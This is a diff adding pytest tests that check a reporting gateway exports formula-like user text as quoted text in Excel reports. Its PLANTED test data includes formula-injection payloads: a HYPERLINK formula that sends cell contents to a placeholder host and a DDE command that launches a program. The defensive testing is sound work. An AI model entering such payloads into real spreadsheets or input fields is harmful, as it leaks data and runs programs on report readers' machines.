@@ -226,3 +226,96 @@ class TestProjectReport:
         assert (await gw.get(url)).status_code == 401
         assert (await gw.get("/v1/reports/projects/no-such-project.xlsx",
                              headers=world.headers["county.head"])).status_code == 404
+
+
+# What a lower role may type into a name and a report then shows: Excel formulas (a link that
+# sends the sheet's cells away, DDE that runs a program), the other characters spreadsheets read
+# as the start of one, and an error code. The tab and CR prefixes are stripped on input, so what
+# reaches the workbook starts with "=" as well.
+PLANTED = ('=HYPERLINK("http://x/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1", "-2", "@SUM(1)", "\t=2+2",
+           "\r=3+3", "#N/A")
+
+
+def assert_text(cell, expected: str) -> None:
+    """A text cell holding exactly `expected`, which Excel shows as typed (quote prefix) when it
+    could be read as a formula."""
+    assert cell.data_type == "s", (cell.coordinate, cell.data_type, cell.value)
+    assert cell.value == expected, (cell.coordinate, cell.value)
+    if expected[:1] in ("=", "+", "-", "@"):
+        assert cell.quotePrefix, cell.coordinate
+
+
+class TestUserTextStaysText:
+    async def test_names_that_look_like_formulas_are_text_in_the_monthly_report(self, gateway, admin, tree):
+        county = tree["chenghua"]
+        await gateway.user(admin, "formula.head", "station_head", county["id"])
+        head = await gateway.headers_for("formula.head")
+        planted = [await gateway.station(head, county["id"], "township", name) for name in PLANTED]
+        r = await gateway.get("/v1/reports/monthly.xlsx", headers=admin,
+                              params={"station_id": county["id"], "month": f"{date.today():%Y-%m}"})
+        assert r.status_code == 200, r.text
+        ws = load_workbook(io.BytesIO(r.content)).worksheets[0]
+        by_name = {s["name"]: s for s in planted}
+        assert set(by_name) == {p.strip() for p in PLANTED}  # as the API stored them
+        found = {}
+        for row in ws.iter_rows():
+            first = row[0]
+            if first.value in by_name:
+                found[first.value] = row
+        assert set(found) == set(by_name)
+        for name, row in found.items():
+            assert_text(row[0], name)
+            assert_text(row[1], "镇街社工服务站")
+            # The figures beside the names stay numbers.
+            assert all(c.data_type == "n" and isinstance(c.value, int) for c in row[2:]), [c.value for c in row]
+
+    async def test_a_project_whose_texts_look_like_formulas_is_text_in_its_report(self, gateway, admin, tree):
+        county = tree["chenghua"]
+        await gateway.user(admin, "formula.head", "station_head", county["id"])
+        await gateway.app.state.pusher.sync_now()
+        head = await gateway.headers_for("formula.head")
+        today = date.today()
+        for name, purchaser, operator in zip(PLANTED, PLANTED[1:] + PLANTED[:1], PLANTED[2:] + PLANTED[:2],
+                                             strict=True):
+            r = await gateway.post("/v1/projects", headers=head, json={
+                "name": name, "purchaser": purchaser, "operator": operator, "station_id": county["id"],
+                "starts_on": (today - timedelta(days=30)).isoformat(),
+                "ends_on": (today + timedelta(days=30)).isoformat(),
+                "targets": [{"metric": "activities", "target": 3}]})
+            assert r.status_code == 201, r.text
+            project = r.json()
+            r = await gateway.get(f"/v1/reports/projects/{project['id']}.xlsx", headers=head)
+            assert r.status_code == 200, r.text
+            ws = load_workbook(io.BytesIO(r.content)).worksheets[0]
+            lines = {row[0].value: row[1] for row in ws.iter_rows(min_row=2, max_col=2) if row[0].value}
+            assert_text(lines["项目名称"], project["name"])
+            assert_text(lines["购买方"], project["purchaser"])
+            assert_text(lines["承接机构"], project["operator"])
+            _, rows = table(ws, "条件")
+            target = next(row for row in ws.iter_rows() if row[0].value == "社区活动场次")
+            assert target[2].data_type == "n" and target[2].value == 3
+            assert target[3].data_type == "n" and target[3].value == 0
+            assert rows["社区活动场次"]["目标值"] == 3
+
+
+class TestCellHelper:
+    def test_user_text_is_text_and_numbers_stay_numbers(self):
+        from gateway.reports import workbook as wb
+
+        book = wb.new_workbook()
+        ws = book.create_sheet("t")
+        values = [*PLANTED, "\t=1", "\r=1", "=", "普通站点", 3, 2.5, 0, None, "bell\x07here"]
+        for i, value in enumerate(values, start=1):
+            wb.put(ws, i, 1, value)
+        ws = load_workbook(io.BytesIO(wb.to_bytes(book))).worksheets[0]
+        for i, value in enumerate(values, start=1):
+            cell = ws.cell(row=i, column=1)
+            if isinstance(value, str) and "\x07" in value:
+                # A character a workbook cannot hold is replaced, not a failed report.
+                assert cell.data_type == "s" and cell.value == "bell\ufffdhere"
+            elif isinstance(value, str):
+                # An XML reader takes a CR in text as a line feed (XML 1.0, "End-of-Line Handling").
+                assert cell.data_type == "s" and cell.value == value.replace("\r", "\n"), (i, cell.value)
+                assert cell.quotePrefix == (value[:1] in ("=", "+", "-", "@", "\t", "\r")), (i, value)
+            else:
+                assert cell.value == value and cell.data_type == "n", (i, cell.value)
